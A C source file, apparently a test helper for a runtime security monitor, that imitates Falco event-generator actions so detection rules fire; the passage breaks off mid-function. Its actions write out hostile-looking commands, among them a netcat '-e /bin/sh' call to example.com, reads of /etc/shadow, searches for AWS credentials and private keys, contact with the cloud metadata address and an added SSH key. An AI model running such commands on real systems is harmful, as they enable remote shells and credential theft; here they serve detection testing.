/* SPDX-License-Identifier: Apache-2.0 */
/*
 * evgen-actions: vigil's own re-implementation of the falcosecurity/event-generator syscall
 * actions (written from their descriptions in the reference, runtime.md section 11, not from
 * event-generator's code), so tests/integration/test-falco-compat.py can check that Falco's
 * upstream rule files fire the rule each action targets.
 *
 * Usage:
 *   evgen-actions list                      every action name
 *   evgen-actions run ACTION...             each action in turn (a child per action)
 *   evgen-actions ACTION                    one action
 *
 * Action names are event-generator's (`syscall.` dropped), e.g. ReadSensitiveFileUntrusted,
 * plus a few of vigil's own for the stable rules that have no action (TerminalShell... is done
 * by the test through `docker exec -it`). Each action prints one line
 *
 *   action=NAME pid=PID [key=value ...]
 *
 * and returns 0 even when the syscall it makes fails: the attempt is what is traced.
 *
 * Multi-call, like event-generator's SpawnAs: when started under another name (a symlink
 * `httpd`, `nc`, `ssh`, ... pointing at this program), it is that "tool":
 *   - NAME ACTION...   (httpd, mysqld, vipw, lua, java, sha1sum): runs ACTION as NAME, so
 *                      proc.name/proc.pname are those of the server the rule looks for;
 *   - ssh [-p PORT] [user@]IPV4: a non-blocking TCP connect to IPV4:PORT (default 22);
 *   - nc -u IPV4 PORT: a UDP connect + send;
 *   - any other name (nc, ncat, nmap, debugfs, mount, login, sudoedit, pkexec, crontab,
 *     kubectl, scp, wget, apk, curl, base64, ...): does nothing and exits 0; the rules only
 *     look at the exec (proc.name, proc.args, proc.cmdline).
 * The test makes those symlinks in a directory it puts first in PATH ($EVGEN_BIN).
 *
 * Linked statically: it also runs in busybox containers without a libc.
 */

#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

#define ELEMENTSOF(a) (sizeof(a) / sizeof((a)[0]))

/* Addresses that are neither loopback nor RFC 1918 (documentation ranges, RFC 5737), so the
 * rules' `outbound` macro accepts them; the connects are non-blocking and never complete. */
#define PUBLIC_IP "203.0.113.10"

static char self_exe[PATH_MAX];
static const char *progname = "evgen-actions";

__attribute__((format(printf, 1, 2))) static void out(const char *fmt, ...)
{
	char buf[1024];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	(void)!write(STDOUT_FILENO, buf, (size_t)n);
}

__attribute__((format(printf, 1, 2))) static void diag(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fprintf(stderr, "%s: ", progname);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

static void sleep_ms(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};

	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

static const char *tmpdir(void)
{
	const char *t = getenv("TMPDIR");

	return t && *t ? t : "/tmp";
}

/* A fresh directory below $TMPDIR; the caller removes what it made. */
static int make_tempdir(char *buf, size_t size, const char *prefix)
{
	snprintf(buf, size, "%s/%sXXXXXX", tmpdir(), prefix);
	if (!mkdtemp(buf)) {
		diag("mkdtemp %s: %s", buf, strerror(errno));
		return -1;
	}
	return 0;
}

static int write_file(const char *path, const char *data, mode_t mode, int flags)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, mode);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = write(fd, data, strlen(data));
	close(fd);
	return n < 0 ? -errno : 0;
}

static int copy_file(const char *from, const char *to, mode_t mode)
{
	char buf[65536];
	int in, o, r = 0;
	ssize_t n;

	in = open(from, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return -errno;
	o = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	if (o < 0) {
		r = -errno;
		close(in);
		return r;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(o, buf, (size_t)n) != n) {
			r = -EIO;
			break;
		}
	if (n < 0)
		r = -errno;
	close(in);
	close(o);
	return r;
}

/* fork + execvp(argv) with optional extra environment (NULL-terminated "K=V" strings) and a
 * uid/gid to switch to first (-1: stay); waits; returns the child's pid. */
static pid_t spawn(char *const argv[], const char *const *env, uid_t uid, gid_t gid,
		   const char *cwd)
{
	pid_t pid = fork();
	int st;

	if (pid < 0) {
		diag("fork: %s", strerror(errno));
		return -1;
	}
	if (pid == 0) {
		for (; env && *env; env++)
			putenv((char *)*env);
		if (cwd && chdir(cwd) < 0)
			diag("chdir %s: %s", cwd, strerror(errno));
		if (gid != (gid_t)-1 && setgid(gid) < 0)
			diag("setgid: %s", strerror(errno));
		if (uid != (uid_t)-1 && setuid(uid) < 0)
			diag("setuid: %s", strerror(errno));
		execvp(argv[0], argv);
		diag("exec %s: %s", argv[0], strerror(errno));
		_exit(127);
	}
	while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
		;
	return pid;
}

static pid_t run_cmd(const char *cwd, ...)
{
	char *argv[16];
	va_list ap;
	size_t n = 0;

	va_start(ap, cwd);
	while (n < ELEMENTSOF(argv) - 1 && (argv[n] = va_arg(ap, char *)))
		n++;
	va_end(ap);
	argv[n] = NULL;
	return spawn(argv, NULL, (uid_t)-1, (gid_t)-1, cwd);
}

/* Re-exec this program as NAME (from $EVGEN_BIN/NAME, a symlink to it) running ACTION. */
static pid_t spawn_as(const char *name, const char *action, const char *const *env, uid_t uid,
		      gid_t gid)
{
	char *argv[] = {(char *)name, (char *)action, NULL};

	return spawn(argv, env, uid, gid, NULL);
}

static void loopback_up(void)
{
	struct ifreq ifr;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "lo");
	if (ioctl(fd, SIOCGIFFLAGS, &ifr) == 0 && !(ifr.ifr_flags & IFF_UP)) {
		ifr.ifr_flags |= IFF_UP | IFF_RUNNING;
		(void)ioctl(fd, SIOCSIFFLAGS, &ifr);
	}
	close(fd);
}

/* Non-blocking connect (TCP or UDP) to ip:port; returns the socket (caller closes) or -1. */
static int dial(const char *ip, int port, int type, int *err)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int fd = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	*err = 0;
	if (fd < 0) {
		*err = errno;
		return -1;
	}
	inet_pton(AF_INET, ip, &a.sin_addr);
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		*err = errno;
	return fd;
}

/* The first non-loopback IPv4 address of this network namespace, or 127.0.0.1. */
static void first_ipv4(char *buf, size_t size)
{
	struct ifaddrs *ifa, *i;

	snprintf(buf, size, "127.0.0.1");
	if (getifaddrs(&ifa) < 0)
		return;
	for (i = ifa; i; i = i->ifa_next)
		if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET &&
		    !(i->ifa_flags & IFF_LOOPBACK)) {
			inet_ntop(AF_INET, &((struct sockaddr_in *)i->ifa_addr)->sin_addr, buf,
				  (socklen_t)size);
			break;
		}
	freeifaddrs(ifa);
}

/* A daemon-like system user: uid/gid of "daemon" (1 on Debian and busybox images). */
#define DAEMON_UID 1
#define DAEMON_GID 1

/* ---- stable actions ---------------------------------------------------------------------- */

static int act_clear_log(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int fd;

	if (make_tempdir(dir, sizeof(dir), "evgen-log-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/syslog", dir);
	fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
	out("action=ClearLogActivities pid=%d file=%s fd=%d", getpid(), path, fd);
	if (fd >= 0)
		close(fd);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_hardlink(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int r, fd;

	if (make_tempdir(dir, sizeof(dir), "evgen-ln-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/shadow_link", dir);
	r = link("/etc/shadow", path);
	out("action=CreateHardlinkOverSensitiveFiles pid=%d link=%s errno=%d", getpid(), path,
	    r < 0 ? errno : 0);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_symlink(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int r;

	if (make_tempdir(dir, sizeof(dir), "evgen-sl-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/etc_link", dir);
	r = symlink("/etc", path);
	out("action=CreateSymlinkOverSensitiveFiles pid=%d link=%s errno=%d", getpid(), path,
	    r < 0 ? errno : 0);
	run_cmd(NULL, "ls", path, NULL);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_debugfs(void)
{
	pid_t p = run_cmd(NULL, "debugfs", "-V", NULL);

	out("action=DebugfsLaunchedInPrivilegedContainer pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_release_agent(void)
{
	char dir[PATH_MAX];
	pid_t p;

	if (make_tempdir(dir, sizeof(dir), "evgen-ra-") < 0)
		return 1;
	p = run_cmd(dir, "sh", "-c", "echo 'hello world' > release_agent", NULL);
	out("action=DetectReleaseAgentFileContainerEscapes pid=%d child=%d dir=%s", getpid(), p,
	    dir);
	(void)!chdir("/");
	{
		char f[PATH_MAX + 16];

		snprintf(f, sizeof(f), "%s/release_agent", dir);
		unlink(f);
	}
	rmdir(dir);
	return 0;
}

static int act_dir_traversal(void)
{
	int fd = open("/etc/../etc/../etc/shadow", O_RDONLY | O_CLOEXEC);

	out("action=DirectoryTraversalMonitoredFileRead pid=%d fd=%d", getpid(), fd);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int act_ssh(void)
{
	pid_t p = run_cmd(NULL, "ssh", "user@" PUBLIC_IP, "-p", "443", NULL);

	out("action=DisallowedSSHConnectionNonStandardPort pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_drop_exec(void)
{
	char path[PATH_MAX];
	const char *dir = getenv("EVGEN_DROP_DIR") ? getenv("EVGEN_DROP_DIR") : "/bin";
	pid_t p;
	int r;

	snprintf(path, sizeof(path), "%s/evgen-drop-%d", dir, getpid());
	r = copy_file(self_exe, path, 0755);
	if (r < 0) {
		diag("copy %s -> %s: %s", self_exe, path, strerror(-r));
		return 1;
	}
	p = run_cmd(NULL, path, "noop", NULL);
	out("action=DropAndExecuteNewBinaryInContainer pid=%d child=%d exe=%s", getpid(), p, path);
	unlink(path);
	return 0;
}

static int act_dev_shm(void)
{
	char path[PATH_MAX], cmd[PATH_MAX + 8];
	pid_t p;
	int r;

	snprintf(path, sizeof(path), "/dev/shm/evgen-%d.sh", getpid());
	r = write_file(path, "#!/bin/sh\n\nls > /dev/null\n", 0755, O_TRUNC);
	if (r < 0) {
		diag("write %s: %s", path, strerror(-r));
		return 1;
	}
	snprintf(cmd, sizeof(cmd), "%s", path);
	p = run_cmd(NULL, "sh", "-c", cmd, NULL);
	out("action=ExecutionFromDevShm pid=%d child=%d file=%s", getpid(), p, path);
	unlink(path);
	return 0;
}

static int act_memfd(void)
{
	int mfd = (int)syscall(SYS_memfd_create, "program", 0);
	char fdpath[64];
	pid_t p;
	int in, st;

	if (mfd < 0) {
		diag("memfd_create: %s", strerror(errno));
		return 1;
	}
	in = open(self_exe, O_RDONLY | O_CLOEXEC);
	if (in < 0) {
		diag("open %s: %s", self_exe, strerror(errno));
		return 1;
	}
	{
		char buf[65536];
		ssize_t n;

		while ((n = read(in, buf, sizeof(buf))) > 0)
			if (write(mfd, buf, (size_t)n) != n)
				break;
		close(in);
	}
	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", mfd);
	p = fork();
	if (p == 0) {
		char *argv[] = {"program", "noop", NULL};

		execv(fdpath, argv);
		diag("exec %s: %s", fdpath, strerror(errno));
		_exit(127);
	}
	if (p > 0)
		waitpid(p, &st, 0);
	close(mfd);
	out("action=FilelessExecutionViaMemfdCreate pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_find_aws(void)
{
	pid_t p = run_cmd(NULL, "find", tmpdir(), "-maxdepth", "1", "-iname", ".aws/credentials",
			  NULL);

	out("action=FindAwsCredentials pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_nmap_host(void)
{
	pid_t p = run_cmd(NULL, "nmap", "-sn", "172.17.0.1/32", NULL);

	out("action=LaunchSuspiciousNetworkToolOnHost pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_mount(void)
{
	pid_t p = run_cmd(NULL, "mount", "-o", NULL);

	out("action=MountLaunchedInPrivilegedContainer pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_netcat(void)
{
	pid_t p = run_cmd(NULL, "nc", "-e", "/bin/sh", "example.com", "22", NULL);

	out("action=NetcatRemoteCodeExecutionInContainer pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_packet_socket(void)
{
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	out("action=PacketSocketCreatedInContainer pid=%d fd=%d errno=%d", getpid(), fd,
	    fd < 0 ? errno : 0);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int act_ptrace_traceme(void)
{
	pid_t p = fork();
	int st;

	if (p == 0) {
		long r = ptrace(PTRACE_TRACEME, 0, NULL, NULL);

		out("action=PtraceAntiDebugAttempt pid=%d ret=%ld", getpid(), r);
		_exit(0);
	}
	if (p > 0)
		waitpid(p, &st, 0);
	return 0;
}

static int act_ptrace_attach(void)
{
	pid_t p = fork();
	long r;
	int st;

	if (p == 0) {
		for (;;)
			pause();
	}
	if (p < 0)
		return 1;
	sleep_ms(50);
	r = ptrace(PTRACE_ATTACH, p, NULL, NULL);
	out("action=PtraceAttachedToProcess pid=%d target=%d ret=%ld errno=%d", getpid(), p, r,
	    r < 0 ? errno : 0);
	if (r == 0) {
		waitpid(p, &st, 0);
		ptrace(PTRACE_DETACH, p, NULL, NULL);
	}
	kill(p, SIGKILL);
	waitpid(p, &st, 0);
	return 0;
}

static int open_shadow(const char *action)
{
	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);

	out("action=%s pid=%d fd=%d", action, getpid(), fd);
	if (fd >= 0)
		close(fd);
	return 0;
}

/* As httpd: sleep past proc_is_new (5 s), then read /etc/shadow. EVGEN_TRUSTED_DELAY_MS
 * overrides the 6 s. */
static int act_trusted_after_startup_inner(void)
{
	const char *d = getenv("EVGEN_TRUSTED_DELAY_MS");

	sleep_ms(d ? atol(d) : 6000);
	return open_shadow("ReadSensitiveFileTrustedAfterStartup");
}

static int act_trusted_after_startup(void)
{
	return spawn_as("httpd", "ReadSensitiveFileTrustedAfterStartup.inner", NULL, (uid_t)-1,
			(gid_t)-1) < 0;
}

static int act_untrusted(void)
{
	return open_shadow("ReadSensitiveFileUntrusted");
}

static int act_shred(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	pid_t p;

	if (make_tempdir(dir, sizeof(dir), "evgen-shred-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/data", dir);
	write_file(path, "bulk data\n", 0600, O_TRUNC);
	p = run_cmd(NULL, "shred", "-u", path, NULL);
	out("action=RemoveBulkDataFromDisk pid=%d child=%d file=%s", getpid(), p, path);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_run_shell(void)
{
	pid_t p = run_cmd(NULL, "sh", "-c", "ls > /dev/null", NULL);

	out("action=RunShell pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_run_shell_untrusted(void)
{
	pid_t p = spawn_as("httpd", "RunShell", NULL, (uid_t)-1, (gid_t)-1);

	out("action=RunShellUntrusted pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_search_keys(void)
{
	pid_t p = run_cmd(NULL, "find", tmpdir(), "-maxdepth", "1", "-iname", "id_rsa", NULL);

	out("action=SearchPrivateKeysOrPasswords pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_system_user_interactive(void)
{
	char *argv[] = {"login", NULL};
	pid_t p = spawn(argv, NULL, DAEMON_UID, DAEMON_GID, NULL);

	out("action=SystemUserInteractive pid=%d child=%d uid=%d", getpid(), p, DAEMON_UID);
	return 0;
}

/* ---- stable rules without an event-generator action -------------------------------------- */

/* Contact K8S API Server From Container: connect to "the API server" on 443. The rule needs
 * fd.sip.name = kubernetes.default.svc.cluster.local, and (as in Falco) a connect that fails
 * outright leaves no server address: so a listener on a loopback address of this network
 * namespace plays the server, and test-falco-compat.py maps that address to the name in the
 * host's /etc/hosts, where vigil resolves the names its rules mention. */
#define K8S_API_IP "127.0.0.77"
static int act_k8s_api(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};
	int one = 1, err, lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;

	inet_pton(AF_INET, K8S_API_IP, &a.sin_addr);
	if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(lfd, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(lfd, 1) < 0)
		out("action=ContactK8SAPIServerFromContainer listener errno=%d", errno);
	fd = dial(K8S_API_IP, 443, SOCK_STREAM, &err);
	out("action=ContactK8SAPIServerFromContainer pid=%d errno=%d", getpid(), err);
	if (fd >= 0)
		close(fd);
	if (lfd >= 0)
		close(lfd);
	return 0;
}

/* Redirect STDOUT/STDIN to Network Connection in Container: a reverse-shell-like dup2 of a
 * connected TCP socket onto 0, 1 and 2 (in a child, over loopback). */
static int act_redirect(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t alen = sizeof(a);
	int lfd, st;
	pid_t p;

	loopback_up();
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(lfd, 4) < 0 ||
	    getsockname(lfd, (struct sockaddr *)&a, &alen) < 0) {
		diag("listener: %s", strerror(errno));
		return 1;
	}
	p = fork();
	if (p == 0) {
		int c = socket(AF_INET, SOCK_STREAM, 0);
		int nul = open("/dev/null", O_WRONLY);

		if (c < 0 || connect(c, (struct sockaddr *)&a, sizeof(a)) < 0)
			_exit(1);
		out("action=RedirectStdoutStdinToNetworkConnectionInContainer pid=%d port=%d",
		    getpid(), ntohs(a.sin_port));
		dup2(c, 0);
		dup2(c, 1);
		dup2(c, 2);
		if (nul >= 0) { /* give the output back before exiting */
			dup2(nul, 1);
			dup2(nul, 2);
		}
		_exit(0);
	}
	{
		int cfd = accept(lfd, NULL, NULL);

		waitpid(p, &st, 0);
		if (cfd >= 0)
			close(cfd);
	}
	close(lfd);
	return 0;
}

/* Linux Kernel Module Injection Detected: init_module() of a buffer that is no ELF module
 * (the kernel rejects it; the attempt is the event). */
static int act_kmod(void)
{
	static const char junk[64] = "not a kernel module";
	long r = syscall(SYS_init_module, junk, sizeof(junk), "");

	out("action=LinuxKernelModuleInjectionDetected pid=%d ret=%ld errno=%d", getpid(), r,
	    r < 0 ? errno : 0);
	return 0;
}

/* ---- disabled-by-default actions (incubating and sandbox rules) -------------------------- */

/* A fake home below /home (user_ssh_directory is /home/ * /.ssh/ *): EVGEN_HOME or
 * /home/evgen-PID; removed afterwards. */
static int ssh_file(const char *action, const char *file, int append)
{
	char home[PATH_MAX], dir[PATH_MAX + 8], path[PATH_MAX + 32];
	int fd;

	snprintf(home, sizeof(home), "/home/evgen-%d", getpid());
	mkdir("/home", 0755);
	mkdir(home, 0755);
	snprintf(dir, sizeof(dir), "%s/.ssh", home);
	mkdir(dir, 0700);
	snprintf(path, sizeof(path), "%s/%s", dir, file);
	if (append) {
		fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
		if (fd >= 0)
			(void)!write(fd, "ssh-rsa AAAAB3NzaC1yc2E evgen@vigil\n", 36);
	} else {
		write_file(path, "example.com ssh-ed25519 AAAAC3Nz\n", 0600, O_TRUNC);
		fd = open(path, O_RDONLY | O_CLOEXEC);
	}
	out("action=%s pid=%d file=%s fd=%d", action, getpid(), path, fd);
	if (fd >= 0)
		close(fd);
	unlink(path);
	rmdir(dir);
	rmdir(home);
	return 0;
}

static int act_authorized_keys(void)
{
	return ssh_file("AddingSshKeysToAuthorizedKeys", "authorized_keys", 1);
}

static int act_read_ssh_info(void)
{
	return ssh_file("ReadSshInformation", "known_hosts", 0);
}

static int act_unshare(void)
{
	long r = syscall(SYS_unshare, CLONE_NEWNS);

	out("action=ChangeNamespacePrivilegesViaUnshare pid=%d ret=%ld errno=%d", getpid(), r,
	    r < 0 ? errno : 0);
	return 0;
}

static int act_setns(void)
{
	long r = syscall(SYS_setns, 0, 0);

	out("action=ChangeThreadNamespace pid=%d ret=%ld errno=%d", getpid(), r, r < 0 ? errno : 0);
	return 0;
}

static int act_ec2(void)
{
	int err, fd = dial("169.254.169.254", 80, SOCK_STREAM, &err);

	out("action=ContactEC2InstanceMetadataServiceFromContainer pid=%d errno=%d", getpid(), err);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int act_drift_chmod(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int r;

	if (make_tempdir(dir, sizeof(dir), "evgen-drift-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/drift", dir);
	write_file(path, "#!/bin/sh\n", 0644, O_TRUNC);
	r = chmod(path, 0755);
	out("action=ContainerDriftDetectedChmod pid=%d file=%s errno=%d", getpid(), path,
	    r < 0 ? errno : 0);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_drift_open_create(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int r;

	if (make_tempdir(dir, sizeof(dir), "evgen-drift-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/drift", dir);
	r = write_file(path, "#!/bin/sh\n", 0755, O_TRUNC);
	out("action=ContainerDriftDetectedOpenCreate pid=%d file=%s errno=%d", getpid(), path, -r);
	unlink(path);
	rmdir(dir);
	return 0;
}

/* CreateTemp(dir, pattern) and remove it: the open(O_CREAT|O_EXCL|O_RDWR, 0600) is the event. */
static int create_temp_in(const char *action, const char *dir)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "%s/evgen-%d-XXXXXX", dir, getpid());
	fd = mkstemp(path);
	out("action=%s pid=%d file=%s fd=%d errno=%d", action, getpid(), path, fd,
	    fd < 0 ? errno : 0);
	if (fd >= 0) {
		close(fd);
		unlink(path);
	}
	return 0;
}

static int act_files_below_dev(void)
{
	return create_temp_in("CreateFilesBelowDev", "/dev");
}

static int act_hidden(void)
{
	char dir[PATH_MAX];

	if (make_tempdir(dir, sizeof(dir), ".falco-event-generator-") < 0)
		return 1;
	out("action=CreateHiddenFilesOrDirectories pid=%d dir=%s", getpid(), dir);
	rmdir(dir);
	return 0;
}

static int act_exec_ls(void)
{
	pid_t p = run_cmd(NULL, "ls", "/", NULL);

	out("action=ExecLs pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_db_spawned(void)
{
	pid_t p = spawn_as("mysqld", "ExecLs", NULL, (uid_t)-1, (gid_t)-1);

	out("action=DbProgramSpawnedProcess pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_decoding_payload(void)
{
	/* "echo <b64> | base64 -d" without a shell: base64 reads the payload from a pipe */
	int pfd[2], st;
	pid_t p;

	if (pipe(pfd) < 0)
		return 1;
	p = fork();
	if (p == 0) {
		char *argv[] = {"base64", "-d", NULL};

		dup2(pfd[0], 0);
		close(pfd[0]);
		close(pfd[1]);
		execvp(argv[0], argv);
		_exit(127);
	}
	close(pfd[0]);
	(void)!write(pfd[1], "aGVsbG8gd29ybGQK\n", 17);
	close(pfd[1]);
	waitpid(p, &st, 0);
	out("action=DecodingPayloadInContainer pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_shell_history(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];

	if (make_tempdir(dir, sizeof(dir), "evgen-hist-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/ash_history", dir);
	write_file(path, "ls\n", 0600, O_TRUNC);
	out("action=DeleteOrRenameShellHistory pid=%d file=%s", getpid(), path);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_stratum(void)
{
	pid_t p = run_cmd(NULL, "echo", "-o stratum+tcp", "-u user", "-p pass", NULL);

	out("action=DetectCryptoMinersUsingTheStratumProtocol pid=%d child=%d", getpid(), p);
	return 0;
}

/* TCP listen + accept on the first non-loopback address (inbound needs fd.net not 127/8) */
static int act_inbound_connection(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET};
	socklen_t alen = sizeof(a);
	char ip[64];
	int lfd, c, s, err = 0;

	first_ipv4(ip, sizeof(ip));
	inet_pton(AF_INET, ip, &a.sin_addr);
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(lfd, 4) < 0 ||
	    getsockname(lfd, (struct sockaddr *)&a, &alen) < 0) {
		diag("listener on %s: %s", ip, strerror(errno));
		return 1;
	}
	c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connect(c, (struct sockaddr *)&a, sizeof(a)) < 0)
		err = errno;
	s = accept(lfd, NULL, NULL);
	out("action=InboundConnection pid=%d addr=%s:%d errno=%d accept=%d", getpid(), ip,
	    ntohs(a.sin_port), err, s);
	if (s >= 0)
		close(s);
	close(c);
	close(lfd);
	return 0;
}

static int act_udp_dial(const char *action, const char *ip, int port)
{
	int err, fd = dial(ip, port, SOCK_DGRAM, &err);

	if (fd >= 0 && !err)
		(void)!send(fd, "x", 1, MSG_DONTWAIT);
	out("action=%s pid=%d dst=%s:%d errno=%d", action, getpid(), ip, port, err);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int act_outbound_connection(void)
{
	return act_udp_dial("OutboundConnection", PUBLIC_IP, 53);
}

static int act_network_activity(void)
{
	return act_udp_dial("NetworkActivity", "10.2.3.4", 8192);
}

static int act_interpreted_inbound(void)
{
	pid_t p = spawn_as("lua", "InboundConnection", NULL, (uid_t)-1, (gid_t)-1);

	out("action=InterpretedProcsInboundNetworkActivity pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_interpreted_outbound(void)
{
	pid_t p = spawn_as("lua", "OutboundConnection", NULL, (uid_t)-1, (gid_t)-1);

	out("action=InterpretedProcsOutboundNetworkActivity pid=%d child=%d", getpid(), p);
	return 0;
}

/* UDP "client/server" round trip on localhost:1234 (the class file download would be in the
 * received buffer) */
static int act_combined_server_client(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(1234),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	char buf[16];
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int c = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	loopback_up();
	if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof(a)) == 0 && c >= 0) {
		(void)!sendto(c, "\xca\xfe\xba\xbe", 4, 0, (struct sockaddr *)&a, sizeof(a));
		(void)!recvfrom(s, buf, sizeof(buf), MSG_DONTWAIT, NULL, NULL);
	}
	out("action=CombinedServerClient pid=%d", getpid());
	if (s >= 0)
		close(s);
	if (c >= 0)
		close(c);
	return 0;
}

static int act_java_download(void)
{
	pid_t p = spawn_as("java", "CombinedServerClient", NULL, (uid_t)-1, (gid_t)-1);

	out("action=JavaProcessClassFileDownload pid=%d child=%d", getpid(), p);
	return 0;
}

static int exec_tool(const char *action, char *const argv[])
{
	pid_t p = spawn(argv, NULL, (uid_t)-1, (gid_t)-1, NULL);

	out("action=%s pid=%d child=%d", action, getpid(), p);
	return 0;
}

#define TOOL(action, ...)                            \
	do {                                         \
		char *argv_[] = {__VA_ARGS__, NULL}; \
		return exec_tool(action, argv_);     \
	} while (0)

static int act_kubectl(void)
{
	TOOL("KubernetesClientToolLaunchedInContainer", "kubectl", "version");
}
static int act_ingress_copy(void)
{
	TOOL("LaunchIngressRemoteFileCopyToolsInContainer", "wget", "-V");
}
static int act_pkg_mgmt(void)
{
	TOOL("LaunchPackageManagementProcessInContainer", "apk", "version");
}
static int act_remote_copy(void)
{
	TOOL("LaunchRemoteFileCopyToolsInContainer", "scp");
}
static int act_nmap_container(void)
{
	TOOL("LaunchSuspiciousNetworkToolInContainer", "nmap", "-sn", "192.168.1.0/24");
}
static int act_crontab(void)
{
	TOOL("ScheduleCronJobs", "crontab", "-l");
}
static int act_environ(void)
{
	TOOL("ReadEnvironmentVariableFromProcFiles", "cat", "/proc/self/environ");
}

static int act_mkdir_bin(void)
{
	char path[PATH_MAX];
	int r;

	snprintf(path, sizeof(path), "/bin/evgen-%d", getpid());
	r = mkdir(path, 0755);
	out("action=MkdirBinaryDirs pid=%d dir=%s errno=%d", getpid(), path, r < 0 ? errno : 0);
	rmdir(path);
	return 0;
}

static int act_modify_bin(void)
{
	int r = rename("/bin/true", "/bin/true.evgen");

	out("action=ModifyBinaryDirs pid=%d errno=%d", getpid(), r < 0 ? errno : 0);
	if (r == 0 && rename("/bin/true.evgen", "/bin/true") < 0)
